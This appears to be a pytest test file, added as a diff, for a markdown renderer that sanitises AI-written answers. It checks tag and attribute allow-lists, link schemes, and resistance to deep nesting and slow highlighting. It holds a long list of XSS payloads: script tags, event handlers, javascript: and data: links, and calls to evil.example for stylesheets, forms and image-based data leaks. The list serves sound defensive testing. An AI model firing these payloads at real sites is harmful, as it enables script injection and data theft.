@@ -1,0 +1,440 @@
+"""What a model writes cannot harm whoever reads it."""
+
+import re
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from arena.answers import markdown
+from arena.answers.markdown import (
+    ALIASES,
+    LANGUAGES,
+    LONGEST,
+    MOST_CELLS,
+    MOST_HIGHLIGHTED,
+    MOST_MARKS,
+    TAGS,
+    render,
+    whole,
+)
+
+ALLOWED = {
+    ("a", "href"),
+    ("a", "title"),
+    ("a", "rel"),
+    ("code", "class"),
+    ("span", "class"),
+    ("ol", "start"),
+    ("pre", "tabindex"),
+    ("div", "class"),
+    ("div", "tabindex"),
+    ("th", "class"),
+    ("td", "class"),
+    *((tag, "dir") for tag in ("ul", "ol", "blockquote", "table")),
+}
+CLASSES = re.compile(r"language-[a-z-]+|host|math|math math-display|table|right|center|[a-z]{1,3}\d?")
+
+
+class Found(HTMLParser):
+    """The elements that a browser would make of some HTML, its text, and whether all were closed in order."""
+
+    def __init__(self, html):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.attributes, self.text, self.open, self.others = set(), [], "", [], []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+        if tag not in ("br", "hr"):
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        self.others.append(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def assert_harmless(html):
+    found = Found(html)
+    assert found.tags <= TAGS
+    assert {(tag, name) for tag, name, _ in found.attributes} <= ALLOWED
+    for tag, name, value in found.attributes:
+        if name == "href":
+            address = "".join(value.split()).lower()
+            assert urlsplit(address).scheme in ("http", "https", "mailto"), value
+            assert not address.startswith(("javascript", "data", "vbscript"))
+        if (tag, name) == ("a", "rel"):
+            assert value == "noopener noreferrer nofollow ugc"
+        if name == "class":
+            assert CLASSES.fullmatch(value), value
+    assert found.others == found.open == []
+    return found
+
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)"',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=data:text/html,x>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<form action=https://evil.example><input name=x></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<div style='background:url(https://evil.example/x)'>x</div>",
+    "<p id=verdict class=verdict>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<!-- <script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "<!DOCTYPE html>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "</p></div></main><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java&#10;script:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](ftp://evil.example/x)",
+    "[x](intent://evil.example)",
+    "[x](blob:https://evil.example/1)",
+    "<tel:+123>",
+    "[x](//evil.example)",
+    "[x](javascript://https://a.example/%0aalert(1))",
+    "[x](https://a.example 'onmouseover=alert(1)')",
+    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
+    '[x](https://a.example"onmouseover="alert(1))',
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "[y]: <javascript:alert(1)> 'x'\n\n[y]",
+    "<javascript:alert(1)>",
+    '<https://a.example/"onmouseover=alert(1)>',
+    "![x](https://evil.example/?q=secret)",
+    "![x](data:image/png;base64,AAAA)",
+    "![x][y]\n\n[y]: https://evil.example/x.png",
+    "[![x](https://evil.example/x.png)](javascript:alert(1))",
+    "![`<img src=x onerror=alert(1)>`](x)",
+    "**[x](javascript:alert(1))**",
+    "> # [x](javascript:alert(1))\n> <img src=x onerror=alert(1)>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "| a |\n|:-:|\n| b |",
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    '```" onmouseover="alert(1)\nx\n```',
+    "```button verdict\nx\n```",
+    "[x](/accounts/logout/)",
+    "[x](#verdict)",
+    "```<img src=x onerror=alert(1)>\nx\n```",
+    "    <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "<script\x0c>alert(1)</script\x0c>",
+    "\u202e<script>alert(1)</script>",
+    "<ſcript>alert(1)</ſcript>",
+    "<script>alert(1)",
+    "<" * 100 + "script>",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "<a\nhref\n=\njavascript:alert(1)>x</a>",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_render_leaves_nothing_that_could_do_harm(payload):
+    assert_harmless(render(payload))
+
+
+def nested(opening, closing="", depth=10_000):
+    return opening * depth + "<script>alert(1)</script>" + closing * depth
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        nested("> "),
+        nested("- "),
+        nested("1. "),
+        nested("> - "),
+        nested("**", "**"),
+        nested("_a", "_"),
+        nested("[", "](javascript:alert(1))", 2_000),
+        nested("![", "](x)", 5_000),
+        nested("<b>", "</b>", 5_000),
+        nested("(", ")"),
+        "\n".join(" " * depth + "- x" for depth in range(300)),
+        "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "x\n" * 20,
+        "```\n" * 10_000,
+        "`" * 30_000,
+        "<" * 30_000,
+        "&" * 30_000,
+        "[a]: b\n" * 5_000,
+    ],
+    ids=lambda text: repr(text[:9]),
+)
+def test_render_survives_nesting_without_end(text):
+    assert_harmless(render(text))
+
+
+@pytest.mark.parametrize("mark", ["> ", "- ", "1. ", "> - ", "- > "])
+@pytest.mark.parametrize("depth", range(1, 30))
+def test_render_loses_nothing_that_is_nested_too_deep(mark, depth):
+    text = Found(render(mark * depth + "inside\n\nbehind")).text
+
+    assert "inside" in text
+    assert "behind" in text
+
+
+@pytest.mark.parametrize(
+    "mark", ["[", "*", "_a", "`a", "~", "<a", "& ", "|a", "> ", "a\n", "a\r", "$", "$$a ", "\\", "\\(a"]
+)
+def test_render_leaves_what_is_full_of_marks_as_it_is(mark):
+    """What a parser tries again and again: brackets, emphasis, quotes, lines, formulas."""
+    assert_harmless(render(mark * (LONGEST // len(mark))))
+    assert render(mark * (MOST_MARKS + 1)).startswith("<pre>")
+
+
+def table(columns, rows, prefix="", end="\n"):
+    """A table with short rows, in a list or a quote."""
+    lines = ["|a" * columns + "|", "|-" * columns + "|", *["x"] * rows]
+    indent = re.sub(r"[-\d.)]", " ", prefix)
+    return prefix + (end + indent).join(lines)
+
+
+@pytest.mark.parametrize("prefix", ["", "> ", "- ", "1. ", "> > 12) "])
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
+def test_render_leaves_a_table_of_too_many_cells_as_it_is(prefix, end):
+    """Short rows are filled up: 8 kB of text were 700 kB of HTML."""
+    assert render(table(500, MOST_CELLS // 500, prefix, end)).startswith("<pre>")
+    assert "td" in Found(render(table(5, 10, prefix, end))).tags
+
+
+@pytest.mark.parametrize(
+    "text",
+    [table(10, 300), table(6, 20) + "\n\n" + "A line after the table.\n" * 2_000],
+    ids=["large table", "table in a long text"],
+)
+def test_render_shows_tables_that_people_read(text):
+    assert "td" in Found(render(text)).tags
+
+
+def test_render_of_what_fails_is_the_text_as_it_is(monkeypatch, caplog):
+    monkeypatch.setattr(markdown, "_parser", None)
+
+    assert render("*never rendered before* <b>") == "<pre>*never rendered before* &lt;b&gt;</pre>"
+    assert "could not be rendered" in caplog.text
+    assert "never rendered" not in caplog.records[0].getMessage()
+
+
+def test_render_renders_an_answer_once():
+    text = "An answer that is *looked at* again and again."
+    before = render.cache_info()
+    for _ in range(3):
+        render(text)
+
+    assert render.cache_info().misses - before.misses == 1
+    assert render.cache_info().hits - before.hits == 2
+
+
+@given(st.text(alphabet="<>&\"'`*_[]()!#-|~:\\/=\n \tascript:dtx1", max_size=200))
+def test_render_makes_only_allowed_elements_of_any_text(text):
+    assert_harmless(render(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("Hello *there*, **you**", "<p>Hello <em>there</em>, <strong>you</strong></p>\n"),
+        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"),
+        ("~~no~~", "<p><s>no</s></p>\n"),
+        ("one  \ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("one<br>two<BR />three<br/>four", "<p>one<br>\ntwo<br>\nthree<br>\nfour</p>\n"),
+        ("<br x><brr>", "<p>&lt;br x&gt;&lt;brr&gt;</p>\n"),
+        ("`<br>`", "<p><code>&lt;br&gt;</code></p>\n"),
+        ("- $x$", '<ul dir="auto">\n<li><span class="math">x</span></li>\n</ul>\n'),
+        ("- a\n- b", '<ul dir="auto">\n<li>a</li>\n<li>b</li>\n</ul>\n'),
+        ("3. a\n4. b", '<ol start="3" dir="auto">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
+        ("> a", '<blockquote dir="auto">\n<p>a</p>\n</blockquote>\n'),
+        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>\n"),
+        ("`x < y`", "<p><code>x &lt; y</code></p>\n"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", None),
+        ("", ""),
+    ],
+)
+def test_render_shows_markdown(text, html):
+    rendered = render(text)
+
+    assert html is None or rendered == html
+    if html is None:
+        assert {"table", "thead", "tbody", "tr", "th", "td"} <= Found(rendered).tags
+        assert rendered.startswith('<div class="table" tabindex="0"><table dir="auto">\n')
+
+
+@pytest.mark.parametrize(
+    ("levels", "tags"),
+    [
+        ([1, 2, 3, 4, 5, 6], ["h3", "h4", "h5", "h6", "h6", "h6"]),
+        ([6], ["h3"]),
+        ([2, 3, 2], ["h3", "h4", "h4"]),
+        ([1, 3, 1, 4, 4], ["h3", "h4", "h3", "h4", "h5"]),
+    ],
+)
+def test_render_puts_headings_below_those_of_the_page_without_a_gap(levels, tags):
+    rendered = render("\n\n".join(f"{'#' * level} Title" for level in levels))
+    assert rendered == "".join(f"<{tag}>Title</{tag}>\n" for tag in tags)
+
+
+def test_render_keeps_where_the_cells_of_a_column_stand():
+    rendered = render("|a|b|c|d|\n|:--|--:|:-:|---|\n|1|2|3|4|")
+    for cell in ("<th>a", '<th class="right">b', '<th class="center">c', "<th>d", '<td class="right">2', "<td>4"):
+        assert cell in rendered
+    assert "style" not in rendered
+
+
+@pytest.mark.parametrize("address", ["https://a.example/x?y=1", "http://a.example", "mailto:a@a.example"])
+def test_render_keeps_links_that_lead_out_without_a_trace(address):
+    assert f'<a href="{address}" rel="noopener noreferrer nofollow ugc">x</a>' in render(f"[x]({address})")
+
+
+def test_render_shows_an_image_as_a_link_that_nobody_follows_by_itself():
+    found = Found(render("![chart](https://a.example/x.png)"))
+
+    assert found.tags == {"p", "a", "span"}
+
+
+def test_render_colours_code_by_classes_alone():
+    html = render("```python\ndef f(): pass\n```")
+
+    assert '<code class="language-python">' in html
+    assert '<span class="k">def</span>' in html
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "name"),
+    [
+        ("c++", "int a;", "cpp"),
+        ("Python", "def f(): pass", "python"),
+        ("sh title=x", "if true; then", "bash"),
+        ("js", "let a = 1", "javascript"),
+        ("r", "x <- 1", "splus"),
+    ],
+)
+def test_render_knows_languages_by_their_other_names(language, code, name):
+    found = Found(render(f"```{language}\n{code}\n```"))
+
+    assert "span" in found.tags
+    assert ("code", "class", f"language-{name}") in found.attributes
+
+
+def test_languages_are_those_that_pygments_knows():
+    assert set(ALIASES.values()) == LANGUAGES
+
+
+@pytest.mark.parametrize(
+    "language", ["autoit", "html+ng2", "idris", "ragel", "gnuplot", "devicetree", "usd", "systemd"]
+)
+def test_render_leaves_code_in_languages_that_take_long_as_it_is(language):
+    code = " " * 4_990 + "x"
+
+    found = assert_harmless(render(f"```{language}\n{code}\n```"))
+
+    assert found.tags == {"pre", "code"}
+    assert found.text.rstrip("\n") == code
+
+
+@pytest.mark.parametrize(
+    ("language", "piece"),
+    [("python", " \n"), ("csharp", "a\n"), ("java", "a\n"), ("make", "-a"), ("javascript", '"\\')],
+)
+def test_render_gives_up_colours_that_take_long(language, piece):
+    """Quadratic even in the most common languages: seconds, were it not given up."""
+    code = piece * (MOST_HIGHLIGHTED // len(piece) - 5) + "x"
+
+    found = assert_harmless(render(f"```{language}\n{code}\n```"))
+
+    assert found.tags == {"pre", "code"}
+    assert found.text.rstrip("\n") == code
+
+
+@pytest.mark.parametrize("language", ["", "nosuchlanguage", "python3.99 title=x"])
+def test_render_leaves_code_of_unknown_languages_as_it_is(language):
+    found = assert_harmless(render(f"```{language}\nif x < 1: pass\n```"))
+
+    assert found.text == "if x < 1: pass\n\n" or found.text == "if x < 1: pass\n"
+    assert found.attributes == [("pre", "tabindex", "0")]
+
+
+def test_render_leaves_much_code_uncoloured():
+    code = "a " * (MOST_HIGHLIGHTED // 2 + 10)
+
+    found = assert_harmless(render(f"```java\n{code}\n```"))
+
+    assert "span" not in found.tags
+    assert found.text.strip() == code.strip()
+    assert "span" in Found(render("```java\nint a;\n```")).tags
+
+
+def test_render_shows_an_answer_too_long_to_be_parsed_as_it_is():
+    text = "<script>*a*</script>" * (LONGEST // 20 + 1)
+
+    html = render(text)
+
+    assert_harmless(html)
+    assert Found(html).tags == {"pre"}
+    assert Found(html).text == text
+
+
+@pytest.mark.parametrize(
+    ("how", "words"),
+    [
+        ({"stopped": True, "cut": False}, "Stopped."),
+        ({"stopped": False, "cut": True}, "Cut off at the length limit."),
+        ({"stopped": True, "cut": True}, "Stopped."),
+    ],
+)
+@pytest.mark.parametrize("text", ["So *it", "```python\nif x", "| a |\n|---|\n| 1", "- one\n- tw", "$$x", ""])
+def test_whole_ends_with_a_line_of_its_own(text, how, words):
+    assert whole(text, **how) == render(text) + f'<p class="ended">{words}</p>'
+
+
+def test_whole_of_an_answer_that_its_model_ended_is_that_answer():
+    assert whole("So *it* is.", stopped=False, cut=False) == render("So *it* is.")
+
+
+@pytest.mark.parametrize("text", ['<p class="ended">Stopped.</p>', "<br class=ended>", "```ended\nStopped.\n```"])
+def test_whole_shows_no_such_line_of_a_model(text):
+    assert '<p class="ended"' not in whole(text, stopped=False, cut=False)
